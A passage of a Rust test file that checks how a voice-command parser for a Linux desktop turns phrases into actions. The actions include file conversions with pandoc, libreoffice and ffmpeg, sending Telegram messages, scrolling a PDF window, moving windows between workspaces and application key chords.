    assert_eq!(player("pause the music", "foot", &["spotify", "mpv"]), None);
    assert_eq!(player("pause", "kdenlive", &[]), None);
    // "click play" clicks a control called Play; "hit play" is the player's button.
    let ctx = context(json!({"focused": {"app_id": "steam"}}));
    assert_eq!(steps_with("click play", &apps, &ctx)[0].0, "click_element");
    assert_eq!(steps_with("hit play", &apps, &ctx)[0].0, "media");
}

/// The twenty-fourth set's families: files converted by the tool of their formats, a
/// message sent in a messenger, a window named by its kind, what a chord's verb acts on,
/// and a profile phrase with "this one" after it.
#[test]
fn conversions_messages_kinds_and_objects() {
    let terminal = |utterance: &str| arg_in(utterance, "foot", "terminal", "command");
    assert_eq!(
        terminal("convert notes dot md to a word file"),
        Some(json!("pandoc notes.md -o notes.docx"))
    );
    assert_eq!(
        terminal("convert contract dot docx to pdf"),
        Some(json!(
            "libreoffice --headless --convert-to pdf contract.docx"
        ))
    );
    assert_eq!(
        terminal("turn the take dot wav into an mp3"),
        None,
        "a file is one word: \"the take.wav\" is no file"
    );
    assert_eq!(
        terminal("convert take dot wav to mp3 with ffmpeg"),
        Some(json!("ffmpeg -i take.wav take.mp3"))
    );
    assert_eq!(terminal("convert notes dot md to klingon"), None);

    let apps = vec![
        AppEntry::new(
            "org.telegram.desktop",
            "Telegram Desktop",
            Some("Messenger"),
            &[],
        )
        .with_categories(&["Chat", "Network", "InstantMessaging"])
        .with_wm_class("TelegramDesktop"),
        AppEntry::new("org.kde.okular", "Okular", Some("Document Viewer"), &[])
            .with_categories(&["Office", "Viewer"])
            .with_wm_class("okular"),
        AppEntry::new(
            "org.gnome.TextEditor",
            "Text Editor",
            Some("Text Editor"),
            &[],
        )
        .with_categories(&["Utility", "TextEditor"])
        .with_wm_class("org.gnome.TextEditor"),
    ];
    let in_chat = context(json!({"focused": {"app_id": "TelegramDesktop"}}));
    assert_eq!(
        steps_with("send see you at noon", &apps, &in_chat),
        [
            ("type_text", json!({"text": "see you at noon"})),
            ("key", json!({"chord": "Return"})),
        ]
    );
    // "send" with what names a thing, or outside a messenger, is no message.
    assert!(steps_with("send the file", &apps, &in_chat).is_empty());
    let in_editor = context(json!({
        "focused": {"app_id": "org.gnome.TextEditor"},
        "windows": [{"app_id": "org.gnome.TextEditor"}, {"app_id": "okular"}],
    }));
    assert!(steps_with("send see you at noon", &apps, &in_editor).is_empty());
    // "the pdf": the open window of that kind.
    assert_eq!(
        steps_with("scroll the pdf down", &apps, &in_editor),
        [
            ("focus_app", json!({"app": "okular"})),
            ("scroll", json!({"direction": "down", "amount": 5})),
        ]
    );
    assert_eq!(
        steps_with("put the pdf on workspace two", &apps, &in_editor)[1],
        (
            "niri",
            json!({"command": "move-window-to-workspace", "args": [2]})
        )
    );

    // "copy that cell": the chord of the verb; a link or a count is something else.
    assert_eq!(
        arg_in("copy that cell", "libreoffice-calc", "key", "chord"),
        Some(json!("ctrl+c"))
    );
    assert!(steps_in("copy this link", "firefox").is_empty());
    assert_eq!(
        arg_in(
            "undo that three times",
            "org.gnome.TextEditor",
            "key",
            "repeat"
        ),
        Some(json!(3))
    );
    // An agent with the file it works on.
    assert_eq!(
        arg_in("run aider on glossary dot py", "foot", "type_text", "text"),
        Some(json!("aider glossary.py"))
    );
    // "reply to this one": the profile's "reply"; "run the spell check": its "spell check".
    assert_eq!(
        arg_in("reply to this one", "evolution", "key", "chord"),
        Some(json!("ctrl+r"))
    );
    assert_eq!(
        arg_in("run the spell check", "libreoffice-writer", "key", "chord"),
        Some(json!("F7"))
    );
}
